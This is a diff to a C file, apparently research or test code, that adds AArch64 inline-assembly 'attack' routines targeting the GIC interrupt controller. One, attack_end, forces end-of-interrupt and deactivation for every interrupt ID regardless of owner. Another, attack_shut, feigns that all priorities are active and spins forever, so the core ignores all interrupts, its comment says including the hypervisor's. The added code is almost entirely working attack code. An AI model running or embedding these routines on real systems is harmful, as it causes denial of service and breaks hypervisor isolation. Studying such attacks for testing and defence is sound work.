@@ -98,3 +98,54 @@ void attack_priority(uint64_t where)
         __asm__ volatile("mrs %0, s3_0_c12_c12_0" : "=r"(number) : : "memory");
     }
 }
+
+#define ROUNDS     200u
+#define INTIDS     1024u
+#define MODE_SPLIT UINT64_C(2)          /* ICC_CTLR_EL1.EOImode */
+#define LOWEST_BIT (UINT64_C(1) << 31)  /* ICC_AP1R0_EL1: the lowest priority of 5 bits is active \
+                                         */
+#define ALL_ACTIVE UINT64_C(0xffffffff) /* ICC_AP1R0_EL1 */
+
+/* Ends an interrupt, whoever has acknowledged it. The feigned active priority is there because the
+ * interface ignores an end without one. */
+static void end_interrupt(uint64_t number)
+{
+    __asm__ volatile("msr s3_0_c12_c9_0, %0\n\t"  /* ICC_AP1R0_EL1 */
+                     "msr s3_0_c12_c12_1, %1\n\t" /* ICC_EOIR1_EL1 */
+                     "isb"
+                     :
+                     : "r"(LOWEST_BIT), "r"(number)
+                     : "memory");
+}
+
+/* Ends every interrupt of the board, and deactivates it also by ICC_DIR_EL1. */
+void attack_end(uint64_t where)
+{
+    uint64_t control;
+
+    (void)where;
+    __asm__ volatile("msr daifset, #0xf\n\tmrs %0, s3_0_c12_c12_4"
+                     : "=r"(control)); /* ICC_CTLR_EL1 */
+    for (unsigned round = 0; round < ROUNDS; round++) {
+        for (uint64_t number = 0; number < INTIDS; number++) {
+            __asm__ volatile("msr s3_0_c12_c12_4, %0\n\tisb" : : "r"(control & ~MODE_SPLIT));
+            end_interrupt(number);
+            __asm__ volatile("msr s3_0_c12_c12_4, %0\n\tisb" : : "r"(control | MODE_SPLIT));
+            end_interrupt(number);
+            __asm__ volatile("msr s3_0_c12_c11_1, %0\n\tisb" : : "r"(number)); /* ICC_DIR_EL1 */
+        }
+    }
+    __asm__ volatile("msr s3_0_c12_c9_0, xzr\n\tmsr s3_0_c12_c12_4, %0\n\tisb\n\tmsr daifclr, #0xf"
+                     :
+                     : "r"(control));
+}
+
+/* Shuts this core against all interrupts, also the hypervisor's, by feigning that interrupts of all
+ * priorities are active, for ever. */
+void attack_shut(uint64_t where)
+{
+    (void)where;
+    __asm__ volatile("msr daifset, #0xf\n\tmsr s3_0_c12_c9_0, %0\n\tisb" : : "r"(ALL_ACTIVE));
+    for (;;) {
+    }
+}
